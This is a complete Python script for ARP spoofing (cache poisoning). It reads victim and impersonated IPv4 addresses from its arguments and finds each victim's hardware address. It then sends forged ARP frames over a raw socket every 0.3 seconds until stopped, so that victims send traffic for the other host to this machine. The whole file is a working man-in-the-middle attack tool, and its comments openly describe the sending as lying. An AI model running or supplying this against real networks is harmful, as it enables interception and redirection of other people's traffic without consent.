"""Say to machines, until it is ended, that others are here. Arguments: victim, other, and so on.

ARP has no authentication: whoever says to a victim where another machine is, is believed.
"""

from __future__ import annotations

import socket
import sys
import time
from collections.abc import Sequence
from pathlib import Path

LINK = "eth0"
#: Seconds between two lies: the other's own word is soon forgotten.
PAUSE = 0.3
#: An ARP packet's type; then Ethernet and IPv4, the lengths of their addresses, "request".
HEAD = bytes.fromhex("08060001080006040001")
UNKNOWN = "00:00:00:00:00:00"


def frame(own: bytes, to: bytes, victim: str, other: str) -> bytes:
    """Return the packet that asks a victim for its address, as if the other asked from here.

    Parameters
    ----------
    own, to : bytes
        The hardware addresses of this machine and of the victim.
    victim, other : str
        IPv4 addresses.
    """
    return to + own + HEAD + own + socket.inet_aton(other) + bytes(6) + socket.inet_aton(victim)


def hardware_address(text: str) -> bytes:
    """Return a hardware address as it is sent.

    Examples
    --------
    >>> hardware_address("02:42:0a:00:00:01").hex()
    '02420a000001'
    """
    return bytes.fromhex(text.strip().replace(":", ""))


def known(table: str, address: str) -> bytes | None:
    """Return whose an address is according to the kernel's ARP table, where it says."""
    for line in table.splitlines():
        fields = line.split()
        if fields[0] == address and fields[3] != UNKNOWN:
            return hardware_address(fields[3])
    return None


def owner(address: str) -> bytes:
    """Have the kernel ask whose an address is, until somebody answers."""
    while True:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
            asking.sendto(b"", (address, 9))
        if found := known(Path("/proc/net/arp").read_text(), address):
            return found
        time.sleep(0.05)


def pairs(addresses: Sequence[str]) -> list[tuple[str, str]]:
    """Return victims, each with whom it is lied to about."""
    return list(zip(addresses[::2], addresses[1::2], strict=True))


def main() -> None:
    """Lie until somebody ends it."""
    own = hardware_address(Path(f"/sys/class/net/{LINK}/address").read_text())
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((LINK, 0))
    frames = [frame(own, owner(victim), victim, other) for victim, other in pairs(sys.argv[1:])]
    while True:
        for each in frames:
            link.send(each)
        time.sleep(PAUSE)


if __name__ == "__main__":
    main()
